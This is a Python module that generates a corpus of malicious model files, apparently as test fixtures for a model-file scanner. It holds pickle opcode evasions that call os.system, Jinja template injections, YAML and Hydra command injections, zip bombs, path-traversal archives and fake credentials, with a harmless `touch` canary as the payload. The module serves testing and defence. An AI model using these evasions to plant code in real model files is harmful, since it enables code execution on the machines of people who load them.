"""Model files that do harm when they are loaded, made here so that none is kept: published evasions and our own.

Every payload makes a file (the canary) when anything runs it. Sources of the published ones: modelscan issue 338, the
picklescan advisories of 2025 (broken zips, changed flags, names from the memo, modules nobody listed),
fickling's tests, CVE-2024-34359 (templates), CVE-2024-27318 (ONNX), CVE-2025-1550 (Keras), CVE-2025-23304 (`_target_`).
"""

from __future__ import annotations

import base64
import bz2
import functools
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib

import numpy as np
from safetensors.numpy import save

WEIGHTS = save({"a": np.ones((3, 5), np.float32)})


def _short(text: str) -> bytes:
    return b"\x8c" + bytes([len(text.encode())]) + text.encode()


def _programs(canary: str) -> dict[str, bytes]:
    """Pickles that run `touch canary`, by the trick that hides it."""
    shell = f"touch {canary}"
    call = b"(" + b"V" + shell.encode() + b"\n" + b"tR."
    line = b"V" + shell.encode() + b"\n"
    plain = b"cos\nsystem\n" + call
    memo = _short("os") + b"q\x00" + b"0" + _short("system") + b"q\x01" + b"0" + b"h\x00h\x01\x93"
    return {
        "protocol-0": plain,
        "protocol-2": b"\x80\x02" + plain,
        "stack-global": b"\x80\x04" + _short("os") + _short("system") + b"\x93" + call,
        "stack-global-via-memo": b"\x80\x04" + memo + call,
        "stack-global-without-header": memo + call,
        "stack-global-with-decoys": b"\x80\x04" + _short("collections") + _short("OrderedDict") + b"00" + memo + call,
        "dup": b"\x80\x04"
        + _short("os")
        + _short("system")
        + b"200"
        + _short("os")
        + _short("system")
        + b"\x93"
        + call,
        "inst": b"(" + line + b"ios\nsystem\n.",
        "obj": b"(cos\nsystem\n" + line + b"o.",
        "newobj-ex": b"\x80\x04ctypes\nCDLL\n(" + line + b"t}\x92.",
        "build": b"\x80\x02c__main__\nX\n)\x81}V__setstate__\ncos\nsystem\nsb" + line + b"b.",
        "no-call-listed": b"\x80\x02cnumpy.testing._private.utils\nrunstring\n(V__import__('os').system('"
        + shell.encode()
        + b"')\n}tR.",
        "runpy": b"\x80\x02crunpy\n_run_code\n(V" + f"import os;os.system('{shell}')".encode() + b"\n}tR.",
        "extension": b"\x80\x02\x82\x05(" + line + b"tR.",
        "extension-4": b"\x84\x05\x01\x00\x00(" + line + b"tR.",
        "frame-first": b"\x95" + struct.pack("<Q", len(plain)) + plain,
        "number-with-nul": b"I1\x00 what a strict reader stops at\n0" + plain,
        "long-with-nul": b"L7\x00 L\n0" + plain,
        "float-with-nul": b"F1.5\x00x\n0" + plain,
        "number-that-is-nul": b"I\x00 nothing\n0" + plain,
        "frame-that-lies": b"\x95" + struct.pack("<Q", 5) + b"F0x1p3\n0" + plain,
        "line-without-end": b"(" + line + b"ios\nsystem\x00",
        "get-with-sign": b"Nq\x010g+1\n0" + plain,
        "broken-after-the-call": b"\x80\x04" + plain[:-1] + b"\xff\xff garbage",
        "stack-underflow-after": plain[:-1] + b"RRRRRR",
        "second-pickle": pickle.dumps({"a": 1}, 2) + plain,
        "nested": b"\x80\x02cpickle\nloads\n(B" + struct.pack("<I", len(plain)) + plain + b"tR.",
        "behind-padding": b"\x80\x04B" + struct.pack("<I", 300_000) + b"\0" * 300_000 + b"0" + plain,
        "many-opcodes-first": b"\x80\x02" + b"N0" * 5000 + plain,
        "pop-mark": b"(1" + plain,
        "text-like": b"Vthis is a text\n0Vand another\n0" + plain,
        "codecs": b"\x80\x02c_codecs\nencode\n(Vx\nVlatin1\ntR0" + plain,
        "getattr-chain": b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(Vos\ntRVsystem\ntR(" + line + b"tR.",
        "joblib-compressed-name": zlib.compress(b"\x80\x02" + plain),
    }


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return target.getvalue()


def _tar(members: dict[str, bytes], link: str = "") -> bytes:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as archive:
        for name, data in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
        if link:
            entry = tarfile.TarInfo("weights")
            entry.type, entry.linkname = tarfile.SYMTYPE, link
            archive.addfile(entry)
    return target.getvalue()


def _signed_tar(data: bytes) -> bytes:
    """A header whose checksum only old readers' sum of signed bytes confirms."""
    block = bytearray(_tar({"é" * 20: data}))
    block[148:156] = b" " * 8
    total = sum(byte - 256 if byte > 127 else byte for byte in block[:512])
    block[148:156] = f"{total:06o}\0 ".encode()
    return bytes(block)


def _npy(array: np.ndarray) -> bytes:
    target = io.BytesIO()
    np.save(target, array)
    return target.getvalue()


def _boxes(program: bytes) -> dict[str, bytes]:
    torch = _zip({"archive/data.pkl": program, "archive/version": b"3\n", "archive/data/0": b"\0" * 16})
    seven = b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 24 + program
    broken = bytearray(torch)
    broken[14:18] = b"\xff\xff\xff\xff"
    flagged = bytearray(torch)
    flagged[flagged.rfind(b"PK\x01\x02") + 8] |= 1
    moved = bytearray(torch)
    moved[30:37] = b"ARCHIVE"
    hidden = bytearray(_zip({"a.npy": _npy(np.ones(3)), "b.pkl": program}))
    end = hidden.rfind(b"PK\x05\x06")
    hidden[end + 8 : end + 12] = struct.pack("<HH", 1, 1)
    good = _zip({"a.npy": _npy(np.ones(3))})
    nested = _zip({"inner.tar": _tar({"x.zip": torch})})
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + program
    return {
        "torch.pt": torch,
        "pytorch_model.bin": torch,
        "wrong-crc.pt": bytes(broken),
        "flagged.pt": bytes(flagged),
        "renamed.pt": bytes(moved),
        "uncounted.npz": bytes(hidden),
        "deflated.pt": _zip({"archive/data.pkl": program}, zipfile.ZIP_DEFLATED),
        "bzip2.pt": _zip({"archive/data.pkl": program}, zipfile.ZIP_BZIP2),
        "cut.pt": torch[:-30],
        "trailing.npz": _zip({"a.npy": program}) + b"x",
        "notes.txt": b"Harmless words.\n" + torch + b"x",
        "model.safetensors": WEIGHTS + torch,
        "two-ends.npz": good[:-2] + struct.pack("<H", len(torch)) + torch,
        "legacy.pt": magic,
        "legacy-tar.pt": _tar({"pickle": program, "storages": b"x", "tensors": b"x"}),
        "signed.tar": _signed_tar(program),
        "nested.zip": nested,
        "model.tar.gz": gzip.compress(_tar({"model.joblib": program})),
        "model.joblib": bz2.compress(program),
        "model.pkl.xz": lzma.compress(program),
        "model.7z": seven,
        "objects.npy": _npy(np.array([{"a": 1}], dtype=object)),
        "objects.npz": _zip({"a.npy": _npy(np.array([{"a": 1}], dtype=object))}),
        "tail.npy": _npy(np.ones(3)) + program,
        "weights.gguf": gguf({}) + torch,
    }


def gguf(metadata: dict[str, str], tensors: int = 0) -> bytes:
    """A GGUF 3 file with text metadata and tensors of 32 bytes each."""
    body = b"".join(
        struct.pack("<Q", len(key.encode()))
        + key.encode()
        + struct.pack("<IQ", 8, len(value.encode()))
        + value.encode()
        for key, value in metadata.items()
    )
    for number in range(tensors):
        name = f"blk.{number}.w".encode()
        body += struct.pack("<Q", len(name)) + name + struct.pack("<IQIQ", 1, 8, 0, 32 * number)
    head = b"GGUF" + struct.pack("<LQQ", 3, tensors, len(metadata)) + body
    return head + b"\0" * (-len(head) % 32) + b"\0" * 32 * tensors


def _injections(shell: str) -> dict[str, str]:
    run = f"os.popen('{shell}').read()"
    return {
        "class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "subscript": "{{ ''['__class__'] }}",
        "escaped": r"{{ ''['\x5f\x5fclass\x5f\x5f'] }}",
        "joined": "{{ ''['__cl' ~ 'ass__'] }}",
        "added": "{{ ''['__cl' + 'ass__'] }}",
        "attr": "{{ ''|attr('__class__') }}",
        "mapped": "{{ ['']|map(attribute='__class__')|list }}",
        "cycler": f"{{{{ cycler.__init__.__globals__.{run} }}}}",
        "lipsum": f"{{{{ lipsum.__globals__['os'].popen('{shell}') }}}}",
        "self": f"{{{{ self._TemplateReference__context.cycler.__init__.__globals__.{run} }}}}",
        "format": "{{ '{0.__class__}'.format(messages) }}",
        "hidden-branch": "{% if messages|length > 99 %}{{ namespace.__init__.__globals__ }}{% endif %}",
        "include": "{% include '/etc/passwd' %}",
        "import": "{% import 'os' as os %}",
        "macro": "{% macro m() %}{{ caller.__func__ }}{% endmacro %}",
        "reversed": "{{ ''['__ssalc__'|reverse] }}",
        "unparsable": "{{ '' | }}",
        "long": "{# " + "x" * 300_000 + " #}{{ x }}",
    }


def safetensors(header: object, data: bytes = b"", size: int | None = None) -> bytes:
    """A file with this header, as it is given, whether it is right or not."""
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if size is None else size) + text + data


def _headers() -> dict[str, bytes]:
    tensor = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
    twice = (
        b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}'
    )
    half = {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}
    return {
        "huge": safetensors({"w": tensor}, b"\0" * 16, size=2**62),
        "overlap": safetensors({"w": tensor, "v": half}, b"\0" * 16),
        "twice": safetensors(twice, b"\0" * 16),
        "sizes": safetensors({"w": {**tensor, "shape": [5]}}, b"\0" * 16),
        "wrap": safetensors({"w": {**tensor, "shape": [2**62, 4]}}, b"\0" * 16),
        "hole": safetensors({"w": {**tensor, "data_offsets": [16, 32]}}, b"\0" * 32),
        "tail": safetensors({"w": tensor}, b"\0" * 16 + b"cos\nsystem\n"),
        "negative": safetensors({"w": {**tensor, "data_offsets": [-16, 0]}}, b"\0" * 16),
        "nested": safetensors(b'{"w":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
        "metadata": safetensors({"__metadata__": {"a": {"b": 1}}, "w": tensor}, b"\0" * 16),
    }


@functools.cache
def _archives() -> dict[str, bytes]:
    bomb = _zip({"a.npy": _npy(np.zeros(70_000_000, np.float32))}, zipfile.ZIP_DEFLATED)
    many = _zip({f"{number}.npy": b"" for number in range(10_001)})
    link = zipfile.ZipInfo("a.npy")
    link.external_attr = 0o120777 << 16
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    twice = io.BytesIO()
    with zipfile.ZipFile(twice, "w") as archive:
        archive.writestr("a.npy", _npy(np.ones(3)))
        archive.writestr("A.npy", _npy(np.ones(3)))
    quine = _zip({"a": b"x"})
    for _ in range(30):
        quine = _zip({"a.zip": quine})
    return {
        "bomb.npz": bomb,
        "many.npz": many,
        "link.npz": target.getvalue(),
        "twice.npz": twice.getvalue(),
        "climb.npz": _zip({"../../etc/cron.d/x.npy": _npy(np.ones(3))}),
        "root.npz": _zip({"/etc/x.npy": _npy(np.ones(3))}),
        "windows.npz": _zip({"..\\..\\x.npy": _npy(np.ones(3))}),
        "links.tar": _tar({}, link="/etc/passwd"),
        "climb.tar": _tar({"../../x": b"x"}),
        "deep.zip": quine,
    }


def _texts(shell: str) -> dict[str, bytes]:
    key = "-----BEGIN RSA PRIVATE KEY-----\n" + base64.b64encode(bytes(range(256)) * 3).decode() + "\n"
    return {
        "params.yaml": f"a: !!python/object/apply:os.system ['{shell}']\n".encode(),
        "verbatim.yaml": f"a: !<tag:yaml.org,2002:python/object/apply:os.system> ['{shell}']\n".encode(),
        "hydra.yaml": f"model:\n  _target_: os.system\n  command: {shell}\n".encode(),
        "hydra.json": json.dumps({"model": {"_target_": "builtins.exec", "x": shell}}).encode(),
        "keras.json": json.dumps({"class_name": "Lambda", "config": {"function": ["4wEAAA=="]}}).encode(),
        "keras-escaped.json": b'{"class_name": "\\u004cambda"}',
        "aws.txt": b"aws_access_key_id = AKIAQ3EGUJ4TZ5WXN7PL\n",
        "github.env": b"TOKEN=ghp_" + b"a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8\n",
        "hub.py": b"login(token='hf_" + b"AbCdEfGhIjKlMnOpQrStUvWxYzAbCdEfGh')\n",
        "key.pem": key.encode(),
        "train.ipynb": json.dumps({"source": "wandb.init('https://ada:correcthorse9@db.internal.net/x')"}).encode(),
        "lambda.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 500 + b'{"class_name": "Lambda"}',
        "lambda-escaped.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 500 + b'{"class_name": "\\u004cambda"}',
        "lambda-user-block.h5": b"\1" * 4096 + b"\x89HDF\r\n\x1a\n" + b'{"class_name": "__lambda__"}',
        "outside.onnx": b"\x08\x07\x12\x07pytorch" + b"\x0a\x08location\x12\x0b/etc/passwd" + b"\0\x01\xff" * 20,
        "climbing.onnx": b"\x08\x07\x12\x07pytorch"
        + b"\x12\x0e../../../x.bin"
        + b"\x0a\x08location"
        + b"\0\x01\xff" * 20,
        "cut.gguf": gguf({"general.name": "x"})[:40],
        "huge.gguf": b"GGUF" + struct.pack("<LQQ", 3, 2**60, 0),
        "long-text.gguf": b"GGUF" + struct.pack("<LQQ", 3, 0, 1) + struct.pack("<Q", 2**63) + b"x",
        "outside.gguf": gguf({}, 4)[:-100],
        "library.so": b"\x7fELF" + b"\0" * 100,
    }


def _beside(shell: str) -> dict[str, bytes]:
    """What lies beside weights, or in their metadata, and is obeyed by a loader, an editor or a server."""
    packed = base64.b64encode(zlib.compress(_programs(shell)["protocol-2"])).decode()
    note = "key: xai-" + "aB3dE5gH7jK9mN1p" * 5
    layer = {"class_name": "TorchModuleWrapper", "config": {"module": ""}}
    keras = {
        "config.json": json.dumps(layer).encode(),
        "metadata.json": b"{}",
        "model.weights.h5": b"\x89HDF\r\n\x1a\n",
    }
    claims = b"\x01\0\x10\0\0\0\0\0\x01\x01\0\0\0\0\0\0" + struct.pack("<Q", 2**42)
    node = _field(1, _field(2, b"\1") + _field(4, b"PyOp") + _field(7, b"ai.onnx.contrib"))
    files: dict[str, str | bytes] = {
        "startup.pth": "import os; os.system('x')\n",
        "modeling.py": f"from os import system as s\ns({shell!r})\n",
        "decoded.py": "import base64, builtins as b\nb.exec(base64.b64decode('eA=='))\n",
        "behind.py": "def f(): ...\nf.__globals__['__builtins__']['eval']('1')\n",
        "coded.py": "# coding: rot13\nvzcbeg bf\n",
        "newer.py": "type X = int\nimport os\nos.system('x')\n",
        "conftest.py": "import pytest\n",
        "open me.lnk": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 90,
        "weights.bin": b"MZqFpD='\n" + b"\0" * 90,
        "rank0.engine": b"\x17\x23" * 400,
        ".vscode/tasks.json": "{}",
        "modules.json": json.dumps([{"path": "", "type": "subprocess.Popen"}]),
        "model_index.json": json.dumps({"unet": ["../../evil", "Net"]}),
        "config.json": json.dumps({"attn_implementation": "someone/kernels"}),
        "nested.json": "[" * 100_000 + "]" * 100_000,
        "auto/config.json": json.dumps({"auto_map": {"AutoModel": "../../evil.Net"}}),
        "state.jsonpickle": json.dumps({"py/reduce": [{"py/function": "os.system"}]}),
        "packed.json": json.dumps({"policy": packed}),
        "hex.json": json.dumps({"policy": _programs(shell)["protocol-2"].hex()}),
        "through.yaml": "_target_: torch.serialization.os.system\n",
        "ruby.yaml": "a: !!ruby/object:Gem::Installer {}\n",
        "include.yaml": "a: !include /etc/passwd\n",
        "any-key.yaml": "init_fn: builtins.exec\n",
        "config.toml": '[a]\n_target_ = "os.system"\n',
        "requirements.txt": "svn+http://example.test/x\n",
        "-r/requirements.txt": "-r ../../x\n",
        "config.pbtxt": 'model_operations { op_library_filename: "ops.so" }\n',
        "model.xml": '<net name="m"><layer library="/tmp/x.so"/></net>',
        "style.xml": '<?xml-stylesheet href="x.xsl"?><PMML/>',
        "prompt.txt": "{{ cycler.__init__.__globals__.os.popen('x') }}",
        "namespace.jinja": "{% set ns = namespace() %}{% set ns.__class__ = 1 %}",
        "note.gguf": gguf({"general.description": note}),
        "behind.gguf": gguf({}) + b"\0" * 64 + b"x",
        "note.safetensors": safetensors({"__metadata__": {"note": note}, "a": _TENSOR}, b"\0" * 4),
        "leaving.safetensors": safetensors({"../../a": _TENSOR}, b"\0" * 4),
        "note.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 600 + note.encode(),
        "claims.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 600 + claims,
        "program.keras": _zip(keras),
        "claims.npz": _zip({"a.npy": _npy(np.zeros(4)).replace(b"(4,)", b"(9,)")}),
        "python.onnx": b"\x08\x07" + _field(7, node),
        "flex.tflite": b"\x1c\0\0\0TFL3" + b"\0" * 40 + b"FlexReadFile\0",
        "print.pb": b"\x12\x07PrintV2\x2a\x20\x0a\x0doutput_stream\x12\x0f\x12\x0dfile:///tmp/x" + b"\0\xff" * 50,
    }
    return {name: data.encode() if isinstance(data, str) else data for name, data in files.items()}


_TENSOR = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}


def _field(number: int, value: bytes) -> bytes:
    return bytes([number << 3 | 2, len(value)]) + value


def corpus(canary: str) -> dict[str, bytes]:
    """Every malicious file by a name that says what it is. Loading one that runs makes `canary`."""
    shell = f"touch {canary}"
    programs = _programs(canary)
    files: dict[str, bytes] = {}
    for trick, program in programs.items():
        for ending in ("pkl", "bin", "pt", "txt", "safetensors", "npy"):
            files[f"pickle/{trick}.{ending}"] = program
    for trick in ("stack-global-via-memo", "number-with-nul", "protocol-0"):
        files |= {f"box/{trick}/{name}": data for name, data in _boxes(programs[trick]).items()}
    for trick, source in _injections(shell).items():
        files[f"template/{trick}/chat_template.jinja"] = source.encode()
        files[f"template/{trick}/tokenizer_config.json"] = json.dumps({"chat_template": source}).encode()
        listed = {
            "chat_template": [{"name": "default", "template": "{{ messages }}"}, {"name": "x", "template": source}]
        }
        files[f"template/{trick}/listed/tokenizer_config.json"] = json.dumps(listed).encode()
        files[f"template/{trick}/model.gguf"] = gguf({"tokenizer.chat_template": source})
    escaped = json.dumps({"chat_template": "{{ ''.__class__ }}"}).replace("chat_", "chat\\u005f")
    files["template/key-escaped/tokenizer_config.json"] = escaped.encode()
    files["template/key-twice/tokenizer_config.json"] = (
        b'{"chat_template": "{{ \'\'.__class__ }}", "chat_template": "{{ messages }}"}'
    )
    files |= {f"header/{name}.safetensors": data for name, data in _headers().items()}
    files |= {f"archive/{name}": data for name, data in _archives().items()}
    files |= {f"beside/{name}": data for name, data in _beside(shell).items()}
    return files | {f"file/{name}": data for name, data in _texts(shell).items()}


RUNAWAY = {
    "loops": "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}",
    "memory": "{{ 'a' * 10 ** 10 }}",
    "output": "{% for i in range(99999) %}{{ 'a' * 1000 }}{% endfor %}",
    "names made while it runs": "{% set k = 'cl' %}{{ ''[['_', '_', k, 'ass', '_', '_']|join] }}",
}
"""Templates that are seen through only when they are rendered, or that take what no prompt needs."""
